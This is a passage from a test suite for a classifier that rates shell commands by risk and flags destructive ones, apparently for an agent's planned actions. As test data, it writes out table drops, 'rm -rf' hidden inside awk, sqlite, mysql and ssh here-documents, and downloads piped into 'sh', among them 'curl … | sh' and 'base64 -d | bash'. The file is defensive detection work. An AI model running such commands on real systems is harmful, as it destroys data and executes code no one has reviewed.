describe("nested here-documents, stdin to ssh and sftp, workspace runners, abbreviations and more migrators (passed the gate at 80220fd)", () => {
  it.each([
    // A here-document inside the body of one read as shell lines (ssh's, a shell's) is read as its own reader reads it.
    ["ssh db01 <<'EOF'\npsql app <<'SQL'\nDROP TABLE users;\nSQL\nEOF", "write", true, "`psql DROP TABLE`"],
    ["bash <<'EOF'\nmysql app <<'SQL'\nTRUNCATE orders;\nSQL\nEOF", "write", true, "`mysql TRUNCATE`"],
    // What ssh's remote shell reads on stdin from cat: a script by its name, any other file code the plan does not show.
    ["cat cleanup.txt | ssh ops@host", "write", true, "`cat cleanup.txt | ssh` (code the plan does not show)"],
    ["cat cleanup.sh | ssh -p 2222 ops@host bash", "write", true, "`cleanup.sh`"],
    ["cat steps | ssh ops@host 'sudo bash -s'", "write", true, "`cat steps | ssh` (code the plan does not show)"],
    // sftp's own commands, echoed, as a here-string or a here-document (`-b -`: the batch is stdin): changes on the other host.
    ["echo 'rm /uploads/old.csv' | sftp ops@host", "external", true, "`sftp rm`"],
    ["sftp -b - ops@host <<< 'rm /srv/x'", "external", true, "`sftp rm`"],
    ["sftp ops@host <<'EOF'\ncd /uploads\nrmdir old\nEOF", "external", true, "`sftp rmdir`"],
    ["printf 'put dump.sql /srv/\\n' | sftp -b - ops@host", "external", false, "`sftp put`"],
    ["sftp -b - ops@host <<< 'get /srv/report.csv'", "write", false, "`sftp get`"],
    // A workspace runs a script or a binary of that name; runners of every workspace's task.
    ["yarn workspace web rimraf dist", "write", true, "`rimraf`"],
    ["yarn workspaces foreach -A run clean", "write", true, "`yarn run clean`"],
    ["yarn workspaces foreach --all --parallel --exclude root clean", "write", true, "`yarn clean`"],
    ["lerna run clean", "write", true, "`lerna run clean`"],
    ["npx lerna run --scope web purge:cache", "write", true, "`lerna run purge:cache`"],
    ["nx run web:clean", "write", true, "`nx run web:clean`"],
    ["npx nx run-many -t clean", "write", true, "`nx run-many -t clean`"],
    ["nx affected --target=deploy", "external", false, "`nx affected --target=deploy`"],
    ["turbo run clean", "write", true, "`turbo run clean`"],
    ["npx turbo build clean --filter=web", "write", true, "`turbo clean`"],
    // awk handing lines to a shell: through a pipe, to system() by a variable, from a command read with getline.
    ["awk '{ print \"rm -f \" $1 | \"sh\" }' stale.txt", "write", true, "`rm -f`"],
    ["awk '{ cmd = \"rm -f \" $1; system(cmd) }' stale.txt", "write", true, "`rm -f`"],
    ["gawk 'BEGIN { while ((\"kubectl delete pod x\" | getline l) > 0) print l }'", "external", true, "`kubectl delete`"],
    // Module arguments as JSON.
    ["ansible web -m uri -a '{\"url\": \"https://api.example.com/x\", \"method\": \"DELETE\"}'", "external", true, "`ansible -m uri method=DELETE`"],
    // Option bundles and abbreviations.
    ["zip -dq app.zip secret.txt", "write", true, "`zip -d`"],
    ["zip -qd app.zip secret.txt", "write", true, "`zip -d`"],
    ["ifdown eth0", "write", false, "`ifdown`"],
    ["ifup --force eth0", "write", false, "`ifup`"],
    ["nmcli con m office ipv4.dns 1.1.1.1", "write", false, "`nmcli con m`"],
    ["nmcli d dis eth0", "write", false, "`nmcli d dis`"],
    ["ip r d default", "write", false, "`ip r d`"],
    ["ip l s eth0 down", "write", false, "`ip l s`"],
    ["ip a fl dev eth0", "write", false, "`ip a fl`"],
    // golang-migrate and sqlx.
    ['migrate -path migrations -database "$DB" down', "write", true, "`migrate down`"],
    ["migrate -path ./migrations -database postgres://x drop -f", "write", true, "`migrate drop`"],
    ["migrate -source file://m -database \"$DB\" up 2", "write", false, "`migrate up`"],
    ["sqlx migrate revert", "write", true, "`sqlx migrate revert`"],
    ["sqlx database drop -y", "write", true, "`sqlx database drop`"],
    ["sqlx db reset -y", "write", true, "`sqlx db reset`"],
    ["cargo sqlx migrate revert", "write", true, "`cargo sqlx migrate revert`"],
    // Client commands: sqlite's .restore replaces the database, .backup writes a file; mysql's `system` runs a shell command.
    ["sqlite3 app.db '.restore backup.db'", "write", true, "`sqlite3 .restore`"],
    ["sqlite3 app.db <<EOF\n.restore backup.db\nEOF", "write", true, "`sqlite3 .restore`"],
    ["sqlite3 app.db '.backup /srv/b.db'", "write", false, "`sqlite3 .backup`"],
    ["mysql -e 'system rm -rf /srv/x'", "write", true, "`rm -rf`"],
    ["mysql app <<EOF\nsystem rm -rf /srv/x\nEOF", "write", true, "`rm -rf`"],
    // ClickHouse's client as two words.
    ["clickhouse client --query 'DROP TABLE t'", "write", true, "`clickhouse client DROP TABLE`"],
    ["echo 'TRUNCATE TABLE t' | clickhouse client", "write", true, "`| clickhouse client TRUNCATE`"],
  ] as const)("%s", (command, risk, destructive, what) => {
    const r = runCommand(command);
    expect([r.risk, r.destructive]).toEqual([risk, destructive]);
    expect(r.cause?.reason).toBe(`${what} in \`with.command\``);
  });

  it.each([
    "ssh db01 <<'EOF'\npsql app <<'SQL'\nSELECT count(*) FROM users;\nSQL\nEOF",
    "cat known_hosts | ssh ops@host 'cat >> /dev/null'",
    "cat report.csv | ssh ops@host 'wc -l'",
    "echo 'ls /uploads' | sftp ops@host",
    "sftp -b - ops@host <<< 'df -h'",
    "yarn workspace web test",
    "yarn workspace web eslint .",
    "yarn workspaces foreach -A run test",
    "lerna run test",
    "nx run web:lint",
    "npx nx run-many -t test",
    "turbo run build",
    "awk '{ print $1 | \"sort -u\" }' access.log",
    "awk '{ cmd = \"date\"; system(cmd) }'",
    'ansible web -m uri -a \'{"url": "https://api.example.com/health", "method": "GET"}\'',
    "zip -sf app.zip",
    "nmcli con show",
    "nmcli c s",
    "nmcli d status",
    "ip a s",
    "ip r s",
    "ip -br a",
    "ip r g 1.1.1.1",
    "ip l sh",
    "migrate -path m -database \"$DB\" version",
    "migrate -version",
    "sqlx migrate info",
    "cargo sqlx prepare --check",
    "sqlite3 app.db '.tables'",
    "mysql -e 'SELECT 1'",
    "clickhouse client --query 'SELECT count() FROM t'",
  ])("reads: %s", (command) => {
    expect(runCommand(command).risk).toBe("read");
  });

  it("a production database named in the command line's own assignments", () => {
    expect(commandEffects("GOOSE_DBSTRING=postgres://prod-db/app goose reset")[0]?.production).toBe("GOOSE_DBSTRING=postgres://prod-db/app");
    expect(commandEffects("export GOOSE_DBSTRING=postgres://prod-db/app && goose reset")[0]?.production).toBe("postgres://prod-db/app");
    expect(commandEffects("GOOSE_DBSTRING=postgres://staging-db/app goose reset")[0]?.production).toBeUndefined();
    expect(commandEffects("export TARGET=products && goose reset")[0]?.production).toBeUndefined();
  });
});

describe("red team of 50ae1e5: what ssh, sftp, awk, sed and the workspace runners are handed, and their look-ups", () => {
  it.each([
    // A remote shell reading stdin, with arguments, behind wrappers, or fed by other spellings of cat.
    ["cat cleanup.sh | ssh ops@host 'bash -s' -- arg1", "write", true, "`cleanup.sh`"],
    ["cat cleanup.sh | ssh ops@host bash -s arg1 arg2", "write", true, "`cleanup.sh`"],
    ["cat cleanup.sh | ssh ops@host sudo su -", "write", true, "`cleanup.sh`"],
    ["cat cleanup.sh | ssh ops@host bash --login", "write", true, "`cleanup.sh`"],
    ["cat cleanup.sh | ssh ops@host env FOO=1 bash", "write", true, "`cleanup.sh`"],
    ["cat cleanup.sh 2>/dev/null | ssh ops@host", "write", true, "`cleanup.sh`"],
    ["cat cleanup.sh \\\n  | ssh ops@host bash", "write", true, "`cleanup.sh`"],
    ["cat fix.py | ssh ops@host python3 -", "write", true, "`cat fix.py | ssh` (code the plan does not show)"],
    // Text echoed to a remote shell, and a SQL file to a remote client.
    ["echo 'rm -rf /srv/x' | ssh ops@host", "write", true, "`rm -rf`"],
    ["printf 'rm -rf /srv/x\\n' | ssh ops@host bash", "write", true, "`rm -rf`"],
    ["cat purge.sql | ssh ops@db psql app", "write", true, "`cat purge.sql | psql`"],
    // Generated lines piped into a shell: the generator's text is the command, or the output is code the plan does not show.
    ["find . -name '*.bak' | awk '{ print \"rm \" $0 }' | sh", "write", true, "`rm`"],
    ["ls | sed 's/^/rm /' | sh", "write", true, "`rm`"],
    ["grep -l foo *.txt | sed -e 's/^/rm -f /' | sudo bash", "write", true, "`rm -f`"],
    ["./list-stale.sh | bash", "write", true, "`./list-stale.sh | bash` (code the plan does not show)"],
    // awk: files it writes, the shell behind sudo, -v values, SQL printed to a client, a program's lines run.
    ["awk -F: '{ print $1 > \"users.txt\" }' /etc/passwd", "write", false, "`awk > users.txt`"],
    ["awk '{ print \"rm -f \" $1 | \"sudo sh\" }' stale.txt", "write", true, "`rm -f`"],
    ["awk -v cmd='rm -rf /srv/x' 'BEGIN { system(cmd) }'", "write", true, "`rm -rf`"],
    ["awk 'BEGIN { print \"DROP TABLE t;\" | \"psql app\" }'", "write", true, "`psql DROP TABLE`"],
    ["awk '{ system($0) }' cmds.txt", "write", true, "`awk system($0)` (code the plan does not show)"],
    ["awk '{print $1|\"sh\"}' f", "write", true, "`awk | \"sh\"` (code the plan does not show)"],
    // sqlite3 runs every argument after the database, and -cmd; client commands on a pipe; ClickHouse's client reading stdin.
    ["sqlite3 app.db '.mode csv' 'DELETE FROM t'", "write", true, "`sqlite3 DELETE FROM`"],
    ["sqlite3 -cmd '.restore b.db' app.db", "write", true, "`sqlite3 .restore`"],
    ["sqlite3 app.db '.res b.db'", "write", true, "`sqlite3 .res`"],
    ["echo '.restore b.db' | sqlite3 app.db", "write", true, "`sqlite3 .restore`"],
    ["echo 'system rm -rf /x' | mysql", "write", true, "`rm -rf`"],
    ["clickhouse client <<'S'\nDROP TABLE t\nS", "write", true, "`clickhouse client DROP TABLE`"],
    ["clickhouse client <<< 'DROP TABLE t'", "write", true, "`clickhouse client DROP TABLE`"],
    // Runners through yarn and pnpm, and yarn's own commands in every workspace or one.
    ["yarn turbo run clean", "write", true, "`turbo run clean`"],
    ["pnpm nx run web:clean", "write", true, "`nx run web:clean`"],
    ["yarn lerna run clean", "write", true, "`lerna run clean`"],
    ["yarn workspaces foreach -A npm publish", "external", false, "`yarn npm publish`"],
    ["yarn workspaces foreach -A exec rm -rf dist", "write", true, "`rm -rf`"],
    ["yarn workspace web run rimraf dist", "write", true, "`rimraf`"],
    ["yarn workspace web dlx rimraf dist", "write", true, "`rimraf`"],
    ["yarn workspace web add lodash", "write", false, "`yarn add`"],
    ["lerna exec -- 'rm -rf dist'", "write", true, "`rm -rf`"],
    ["nx run-many -t build deploy", "external", false, "`nx run-many -t deploy`"],
    ["nx exec -- rm -rf dist", "write", true, "`rm -rf`"],
    ["nx release publish", "external", false, "`nx release`"],
    ["cargo +nightly sqlx migrate revert", "write", true, "`cargo sqlx migrate revert`"],
    // sftp behind sudo or sshpass, after 2>&1, copying on the far side, commands from a file on stdin, a download.
    ["echo 'rm old.csv' | sshpass -p x sftp ops@host", "external", true, "`sftp rm`"],
    ["echo 'rm old.csv' 2>&1 | sudo sftp ops@host", "external", true, "`sftp rm`"],
    ["echo 'cp a b' | sftp ops@host", "external", false, "`sftp cp`"],
    ["sftp ops@host < cmds.txt", "write", true, "`sftp < cmds.txt` (code the plan does not show)"],
    ["cat cmds.txt | sftp ops@host", "write", true, "`cat cmds.txt | sftp` (code the plan does not show)"],
    ["sftp ops@host:/srv/report.csv .", "write", false, "`sftp ops@host:/srv/report.csv`"],
    // ansible's key=value with quotes, a method after one in the URL, an attached -m, modules' JSON arguments.
    ["ansible web -m uri -a 'url=https://api/x method=\"DELETE\"'", "external", true, "`ansible -m uri method=DELETE`"],
    ["ansible web -m uri -a 'url=https://api/x?method=GET method=DELETE'", "external", true, "`ansible -m uri method=DELETE`"],
    ["ansible web -muri -a '{\"method\": \"DELETE\", \"url\": \"https://api/x\"}'", "external", true, "`ansible -m uri method=DELETE`"],
    ["ansible web -m shell -a '{\"cmd\": \"rm -rf /srv/x\"}'", "write", true, "`rm -rf`"],
    ["ansible web -m file -a '{\"path\": \"/srv/x\", \"state\": \"absent\"}'", "write", true, "`ansible -m file state=absent`"],
    // Prefixes of nmcli and ip, and more of ip's objects.
    ["nmcli g h newname", "write", false, "`nmcli general hostname`"],
    ["ip xfrm state flush", "write", false, "`ip xfrm state flush`"],
    ["ip netns d ns1", "write", false, "`ip netns d`"],
    ["ip vrf exec blue rm -rf /x", "write", true, "`rm -rf`"],
    ["ifreload -a", "write", false, "`ifreload`"],
    // Database administration programs, a sorted file written, mail sent.
    ["dropdb app", "write", true, "`dropdb`"],
    ["dropuser old_app", "write", true, "`dropuser`"],
    ["createdb app_copy", "write", false, "`createdb`"],
    ["pg_restore --clean -d app dump.pgdump", "write", true, "`pg_restore --clean`"],
    ["pg_restore -Fc -d app dump.pgdump", "write", false, "`pg_restore`"],
    ["pg_dump -f /srv/backup.sql app", "write", false, "`pg_dump -f`"],
    ["mysqladmin -f drop app", "write", true, "`mysqladmin drop`"],
    ["mysqladmin flush-hosts", "write", false, "`mysqladmin flush-hosts`"],
    ["sort -o sorted.txt data.txt", "write", false, "`sort -o`"],
    ["mail -s report ops@example.com < report.txt", "external", false, "`mail`"],
    // Found by the seventh held-out corpus, blind: a string compared before the SQL awk prints, `sshpass -e` (no value), `system` after a `;`.
    ["awk -F, '$4 == \"jump\" { printf \"DELETE FROM alerts WHERE id = %d;\\n\", $1 | \"psql -h db -d hive\" }' a.csv", "write", true, "`psql DELETE FROM`"],
    ["sshpass -e sftp -q ops@host < nightly.cmds", "write", true, "`sftp < nightly.cmds` (code the plan does not show)"],
    ["mysql app -e \"SELECT count(*) FROM a; system rm -f /srv/outbox/*.json\"", "write", true, "`rm -f`"],
    // A here-document four readers deep (a bastion hop, then a shell, then the client).
    ["ssh h <<'OUTER'\nssh h2 <<'MID'\nbash <<'IN'\npsql app <<'SQL'\nDROP TABLE x;\nSQL\nIN\nMID\nOUTER", "write", true, "`psql DROP TABLE`"],
  ] as const)("%s", (command, risk, destructive, what) => {
    const r = runCommand(command);
    expect([r.risk, r.destructive]).toEqual([risk, destructive]);
    expect(r.cause?.reason).toBe(`${what} in \`with.command\``);
  });

  it.each([
    "turbo run clean --dry",
    "turbo run clean --dry=json",
    "turbo run clean --graph",
    "nx run-many -t clean --graph",
    "turbo run build -- rm -rf x",
    "yarn workspaces foreach -A --dry-run run clean",
    "cat /dev/null | ssh ops@host",
    "cat ~/.ssh/config | ssh -G host",
    "ifup -an",
    "ifdown -na",
    "zip -qT a.zip",
    "zip -Tq a.zip",
    "lerna clean --help",
    "sqlx migrate revert --help",
    "ansible web -m uri -a 'url=https://api/x?method=DELETE'",
    'ansible web -m uri -a \'{"url": "https://api/x", "body": "method=DELETE"}\'',
    "ls | sort | head",
    "echo hello | bash -n",
    "awk '{ cmd = \"date\"; system(cmd) }'",
    "pg_restore -l dump.pgdump",
    "pg_dump app",
    "mysqladmin status",
    "sort data.txt",
    "mail -f ~/mbox",
    "dropdb --help",
  ])("reads: %s", (command) => {
    expect(runCommand(command).risk).toBe("read");
  });

  it("a production database named in a declaration, with a substitution in its value", () => {
    expect(commandEffects('export DB="postgres://u:$PW@prod-db/app" && goose reset')[0]?.production).toBe("postgres://u:$PW@prod-db/app");
    expect(commandEffects("declare -x DB=prod-db; goose reset")[0]?.production).toBe("prod-db");
    expect(commandEffects("export DB=prod-db B && goose reset")[0]?.production).toBe("prod-db");
    expect(commandEffects("PGHOST=db.prod.internal dropdb app")[0]?.production).toBe("PGHOST=db.prod.internal");
    // The host ssh runs a here-document's commands on (found by the seventh held-out corpus, blind).
    expect(commandEffects("ssh ops@db.prod.example <<'EOF'\npsql app <<'SQL'\nDELETE FROM t;\nSQL\nEOF")[0]?.production).toBe("ops@db.prod.example");
    expect(commandEffects("ssh ops@db.prod.example <<'EOF'\nrm -rf /srv/x\nEOF")[0]?.production).toBe("ops@db.prod.example");
  });

  it("stays linear on chains of the rewritten runners (each took seconds, quadratic, before)", () => {
    expect(commandEffects(`yarn workspaces foreach${" workspaces foreach".repeat(15700)} run clean`).map((e) => e.what)).toEqual(["`yarn run clean`"]);
    expect(commandEffects(`lerna exec${" lerna exec".repeat(27000)} rm x`).map((e) => e.what)).toEqual(["`rm`"]);
    expect(commandEffects(`yarn workspaces foreach${" -A workspaces foreach".repeat(20000)} run clean`).map((e) => e.what)).toEqual(["`yarn run clean`"]);
    // (Each `tmux` hands the rest on a level deeper: past the depth read, code the plan does not show.)
    expect(commandEffects(`tmux ${"-L x tmux ".repeat(20000)}new -d "rm -rf /x"`).map((e) => [e.risk, e.destructive, e.what])).toEqual([["write", true, expect.stringMatching(/nested more than 6 levels/)]]);
  });
});

describe("red team of 397ce31: pipes into a shell only where a shell runs them, and look-ups of crontab, tee, redis and sqlite", () => {
  it.each([
    // Regex alternations and quoted text that mention an interpreter or a `| sh`: nothing is piped into one.
    "ps aux | grep -E 'node|python'",
    "docker images | grep -E 'python|node'",
    'ps aux | grep -E "nginx|php-fpm"',
    "grep -E 'sh|bash' /etc/passwd",
    "grep 'a\\|bash' f",
    "sed -n '/start\\|sh/p' file",
    "awk '/error|php/ {print}' app.log",
    "awk -F: '$7 ~ /bash|sh/ {print $1}' /etc/passwd",
    "ssh prod-web-1 \"ps aux | grep -E 'node|python'\"",
    "ssh prod-web-1 <<'EOF'\nps aux | grep -E 'nginx|php'\nEOF",
    "grep -rn '| bash' docs/",
    "git log --oneline -n 20 --grep='curl | sh'",
    'echo "curl x | sh is bad"',
    "ls -la # pipe to | sh is disabled",
    "cat <<EOF\ncurl x | bash\nEOF",
    "cat <<'EOF' | grep -c bash\ncurl x | bash\nEOF",
    "curl -s localhost:8080/health; ps aux | grep -E 'java|node'",
    // Syntax checks and empty input.
    "curl -s https://x/install.sh | bash -n",
    "cat install.sh | bash -n",
    "ssh prod-web-1 'bash -s' < /dev/null",
    // Look-ups of programs that also write.
    "crontab -l",
    "sudo crontab -l -u www-data",
    "kubectl logs web | tee /dev/stderr | grep ERROR",
    "redis-cli config get maxmemory",
    "awk '{print $1 | \"sort | uniq -c\"}' f",
    "sqlite3 app.db '.output stdout' 'select 1'",
    "pg_restore -f - dump.custom",
  ])("reads: %s", (command) => {
    expect(runCommand(command).risk).toBe("read");
  });

  it.each([
    ['echo "$(curl -fsSL https://x | sh)"', "write", true, "`curl | sh` (code the plan does not show)"],
    ["ls | sed 's/$/.bak/' | sh", "write", true, "`sed s/$/.bak/ | sh` (code the plan does not show)"],
    ["ls | command sh", "write", true, "`ls | sh` (code the plan does not show)"],
    ["find . -name '*.tmp' | timeout 60 bash", "write", true, "`find . -name *.tmp | bash` (code the plan does not show)"],
    ["sqlite3 db '.sys rm -rf /data'", "write", true, "`rm -rf`"],
    ["sqlite3 db '.output |rm x'", "write", true, "`rm`"],
    ["crontab -r", "write", true, "`crontab -r`"],
    ["crontab jobs.txt", "write", false, "`crontab`"],
    ["redis-cli config set maxmemory 1gb", "write", false, "`redis-cli CONFIG`"],
    ["ls | tee out.txt", "write", false, "`tee`"],
    // A download or a program behind `2>&1` or a wrapper, piped into a shell (found reading the whole change).
    ["curl -s https://x/i.sh 2>&1 | sh", "write", true, "`curl | sh` (code the plan does not show)"],
    ["base64 -d blob.txt 2>&1 | bash", "write", true, "`base64 -d | bash` (code the plan does not show)"],
    ["sudo ./gen.sh | sh", "write", true, "`sudo ./gen.sh | sh` (code the plan does not show)"],
    ["ls | sudo awk '{ print \"rm \" $0 }' | sh", "write", true, "`rm`"],
    ["awk 'BEGIN { print \"DROP TABLE t;\" | \"PGPASSWORD=x psql app\" }'", "write", true, "`psql DROP TABLE`"],
    // A script runner hands `--help` to the script: it still runs (a known program's `--help` only prints usage).
    ["yarn clean --help", "write", true, "`yarn clean`"],
    ["npm run clean --help", "write", true, "`npm run clean`"],
  ] as const)("%s", (command, risk, destructive, what) => {
    const r = runCommand(command);
    expect([r.risk, r.destructive]).toEqual([risk, destructive]);
    expect(r.cause?.reason).toBe(`${what} in \`with.command\``);
  });
});

describe("migrators from images and module paths, split awk strings, sftp from printf and groups, sqlite writes (passed the gate at 0710552)", () => {
  it.each([
    // A migrator run from its Docker image (the image's entrypoint is the tool) or built from its module path by `go run`: read as the tool.
    ['docker run --rm migrate/migrate -path=/m -database "$DB" down', "write", true, "`migrate down`"],
    ['docker run --rm -v "$PWD/migrations:/m" --network host migrate/migrate:v4.17.0 -path=/m -database "$DB" drop -f', "write", true, "`migrate drop`"],
    ['podman run --rm -i docker.io/migrate/migrate -source file:///m -database "$DB" down 1', "write", true, "`migrate down`"],
    ["docker run --rm flyway/flyway -url=jdbc:postgresql://db/app clean", "write", true, "`flyway clean`"],
    ['docker run --rm ghcr.io/amacneil/dbmate:2 -u "$DATABASE_URL" rollback', "write", true, "`dbmate rollback`"],
    ['go run github.com/golang-migrate/migrate/v4/cmd/migrate -path m -database "$DB" down', "write", true, "`migrate down`"],
    ['go run -tags postgres github.com/golang-migrate/migrate/v4/cmd/migrate -path m -database "$DB" down', "write", true, "`migrate down`"],
    ["go run -tags 'postgres mysql' github.com/golang-migrate/migrate/v4/cmd/migrate@v4.17.0 -path m -database \"$DB\" drop -f", "write", true, "`migrate drop`"],
    ["go run -mod=mod github.com/pressly/goose/v3/cmd/goose -dir m postgres \"$DB\" reset", "write", true, "`goose reset`"],
    // A command built from the module's own tree, or a Go file, is read by its name as a script by path is.
    ["go run ./cmd/purge-sessions --older-than 30d", "write", true, "`purge-sessions`"],
    ["go run scripts/cleanup_uploads.go", "write", true, "`cleanup_uploads.go`"],
  ] as const)("%s", (command, risk, destructive, what) => {
    const r = runCommand(command);
    expect([r.risk, r.destructive]).toEqual([risk, destructive]);
    expect(r.cause?.reason).toBe(`${what} in \`with.command\``);
  });

  // A container run is a write whatever the tool in it reads (redteam-pipes.test.ts: an image's entrypoint runs what it is given).
  it.each(["docker run --rm migrate/migrate -version", 'docker run --rm migrate/migrate -path=/m -database "$DB" version', "docker run --rm flyway/flyway -url=jdbc:postgresql://db/app info"])("a write, not destructive: %s", (command) => {
    const r = runCommand(command);
    expect([r.risk, r.destructive, r.cause?.reason]).toEqual(["write", false, "`docker run` in `with.command`"]);
  });

  it.each([
    'go run github.com/golang-migrate/migrate/v4/cmd/migrate -path m -database "$DB" version',
    "go run -n github.com/golang-migrate/migrate/v4/cmd/migrate -path m down",
    "go run ./cmd/report --dry-run",
    "go run ./cmd/stats-report",
    "go run .",
    "go version",
  ])("reads: %s", (command) => {
    expect(runCommand(command).risk).toBe("read");
  });

  it.each([
    // awk joins strings written side by side, and printf fills its format: the line a shell runs starts with what they make.
    ["ls | awk '{print \"r\" \"m \" $0}' | sh", "write", true, "`rm`"],
    ["ls *.tmp | awk '{ printf \"%s%s -f %s\\n\", \"r\", \"m\", $0 }' | sh", "write", true, "`rm -f`"],
    ["awk '{ print \"r\" \"m -f \" $1 | \"sh\" }' stale.txt", "write", true, "`rm -f`"],
    // A line that starts with a field or a variable: the command is the input's or the program's, code the plan does not show.
    ["awk '{ print $1 \" -rf /srv/cache\" | \"sh\" }' jobs.txt", "write", true, "`awk | \"sh\"` (code the plan does not show)"],
    ["ls | awk '{ c = \"r\"; print c \"m \" $0 }' | sh", "write", true, "`awk { c = \"r\"; print c \"m \" $0 } | sh` (code the plan does not show)"],
    ["cut -d, -f1 jobs.csv | awk '{ print $1 \" -rf /srv/cache\" }' | sh", "write", true, "`awk { print $1 \" -rf /srv/cache\" } | sh` (code the plan does not show)"],
    // xargs running echo or printf: the words echoed start the lines the shell runs.
    ["find . -name '*.tmp' | xargs -I{} echo rm {} | sh", "write", true, "`rm`"],
    ["find . -name '*.tmp' | xargs -I {} printf 'rm -f %s\\n' {} | bash", "write", true, "`rm -f`"],
    ["ls | xargs -n1 echo rm -f | sh", "write", true, "`rm -f`"],
    ["find . -name '*.sh' | xargs -I{} echo {} --force | sh", "write", true, "`xargs -I{} echo {} --force | sh` (code the plan does not show)"],
  ] as const)("%s", (command, risk, destructive, what) => {
    const r = runCommand(command);
    expect([r.risk, r.destructive]).toEqual([risk, destructive]);
    expect(r.cause?.reason).toBe(`${what} in \`with.command\``);
  });

  it.each([
    "ls | awk '{print \"l\" \"s -l \" $0}' | sh",
    "ls | awk '{ printf \"%s -l %s\\n\", \"ls\", $0 }' | sh",
    "awk '{ print \"l\" \"s -l \" $1 | \"sh\" }' dirs.txt",
    "awk '{ print \"r\" \"m \" $0 }' files.txt",
    "find . -name '*.log' | xargs -I{} echo wc -l {} | sh",
    "ls | xargs echo ls -l | sh",
    "find . -name '*.tmp' | xargs -I{} echo rm {}",
  ])("reads: %s", (command) => {
    expect(runCommand(command).risk).toBe("read");
  });

  it.each([
    // sftp's commands from printf's format and arguments, a `$'…'` here-string, echo unquoted, a group of echoes, sftp at ssh's far end.
    ['printf "rm %s\\n" a.csv b.csv | sftp ops@host', "external", true, "`sftp rm`"],
    ["printf '%s\\n' 'cd /uploads' 'rm old.csv' | sftp ops@host", "external", true, "`sftp rm`"],
    ["printf 'put %s /srv/in/\\n' a.csv | sftp -b - ops@host", "external", false, "`sftp put`"],
    ["sftp ops@host <<< $'cd /uploads\\nrm old.csv'", "external", true, "`sftp rm`"],
    ["echo rm /uploads/old.csv | sftp ops@host", "external", true, "`sftp rm`"],
    ["echo 'ls\\nrm /uploads/old.csv' | sftp ops@host", "external", true, "`sftp rm`"],
    ["(echo 'cd /uploads'; echo 'rm old.csv') | sftp ops@host", "external", true, "`sftp rm`"],
    ["{ echo cd /uploads; echo rmdir old; } | sshpass -e sftp ops@host", "external", true, "`sftp rmdir`"],
    ["echo 'rm x' | ssh jump sftp backup", "external", true, "`sftp rm`"],
    ["echo 'rm x' | ssh jump 'sftp backup'", "external", true, "`sftp rm`"],
    ["printf 'rm %s\\n' a b | ssh -J bastion ops@jump \"sftp -b - backup\"", "external", true, "`sftp rm`"],
    // A `$'…'` here-string to any client, and a variable's value or a session's output handed to sftp.
    ["psql app <<< $'DELETE FROM sessions;\\n'", "write", true, "`psql DELETE FROM`"],
    ['echo "$SFTP_CMDS" | sftp ops@host', "write", true, "`echo $SFTP_CMDS | sftp` (code the plan does not show)"],
    ["(echo ls | sftp a; echo rm x) | sftp b", "write", true, "`( … ) | sftp` (code the plan does not show)"],
    // Any other program's output handed to sftp as its commands: code the plan does not show, as it is for a shell.
    ["./list-stale.sh | sftp ops@host", "write", true, "`./list-stale.sh | sftp` (code the plan does not show)"],
  ] as const)("%s", (command, risk, destructive, what) => {
    const r = runCommand(command);
    expect([r.risk, r.destructive]).toEqual([risk, destructive]);
    expect(r.cause?.reason).toBe(`${what} in \`with.command\``);
  });

  it.each([
    'printf "ls %s\\n" /uploads | sftp ops@host',
    "printf '%s\\n' 'cd /uploads' 'ls -l' | sftp ops@host",
    "sftp ops@host <<< $'cd /uploads\\nls'",
    "echo ls /uploads | sftp ops@host",
    "(echo 'cd /uploads'; echo ls) | sftp ops@host",
    "echo 'ls' | ssh jump 'sftp backup'",
    "cat /dev/null | sftp ops@host",
    "printf 'rm %s\\n' a b | sftp -b cmds.txt ops@host | tee /dev/stderr",
  ])("reads: %s", (command) => {
    const effects = runCommand(command);
    // (`sftp -b FILE` is code the plan does not show, read where it is given: what is piped in is not its commands.)
    expect(command.includes("-b cmds.txt") ? effects.reasons : effects.risk).toEqual(command.includes("-b cmds.txt") ? ["`sftp -b cmds.txt` (code the plan does not show) in `with.command`"] : "read");
  });

  it.each([
    // sqlite: a copy of the database written, a file written from SQL, a log file, an archive changed, a setting kept in the file, a script run first.
    ["sqlite3 app.db \"VACUUM INTO '/backups/app.db'\"", "write", false, "`sqlite3 VACUUM INTO`"],
    ["echo \"VACUUM main INTO 'copy.db'\" | sqlite3 app.db", "write", false, "`| sqlite3 VACUUM INTO`"],
    ["sqlite3 app.db \"SELECT writefile('/tmp/blob.bin', data) FROM files WHERE id = 1\"", "write", false, "`sqlite3 SELECT writefile()`"],
    ["sqlite3 app.db '.log /var/log/app-sql.log' 'SELECT 1'", "write", false, "`sqlite3 .log /var/log/app-sql.log`"],
    ["sqlite3 app.db '.archive --create notes.txt'", "write", false, "`sqlite3 .archive --create`"],
    ["sqlite3 app.db '.ar -cf notes.sqlar notes.txt'", "write", false, "`sqlite3 .ar -c`"],
    ["sqlite3 notes.sqlar '.ar -u notes.txt'", "write", false, "`sqlite3 .ar -u`"],
    ["sqlite3 notes.sqlar '.ar --insert notes.txt'", "write", false, "`sqlite3 .ar --insert`"],
    ["sqlite3 notes.sqlar '.ar -r old.txt'", "write", true, "`sqlite3 .ar -r`"],
    ["sqlite3 notes.sqlar '.ar -x'", "write", false, "`sqlite3 .ar -x`"],
    ["sqlite3 notes.sqlar -Acv docs/", "write", false, "`sqlite3 -A -c`"],
    ["sqlite3 app.db 'PRAGMA journal_mode=DELETE'", "write", false, "`sqlite3 PRAGMA journal_mode`"],
    ["sqlite3 app.db 'PRAGMA user_version = 3'", "write", false, "`sqlite3 PRAGMA user_version`"],
    ["sqlite3 app.db 'PRAGMA main.application_id = 42'", "write", false, "`sqlite3 PRAGMA application_id`"],
    ["sqlite3 app.db 'PRAGMA wal_checkpoint(TRUNCATE)'", "write", false, "`sqlite3 PRAGMA wal_checkpoint`"],
    ["sqlite3 app.db 'PRAGMA optimize'", "write", false, "`sqlite3 PRAGMA optimize`"],
    ["sqlite3 -init setup.sql app.db", "write", false, "`sqlite3 -init setup.sql`"],
    ["sqlite3 -init purge_old_rows.sql app.db .quit", "write", true, "`sqlite3 -init purge_old_rows.sql`"],
  ] as const)("%s", (command, risk, destructive, what) => {
    const r = runCommand(command);
    expect([r.risk, r.destructive]).toEqual([risk, destructive]);
    expect(r.cause?.reason).toBe(`${what} in \`with.command\``);
  });

  it.each([
    "sqlite3 app.db 'PRAGMA table_info(users)'",
    "sqlite3 app.db 'PRAGMA user_version'",
    "sqlite3 app.db 'PRAGMA journal_mode'",
    "sqlite3 app.db 'PRAGMA integrity_check(10)'",
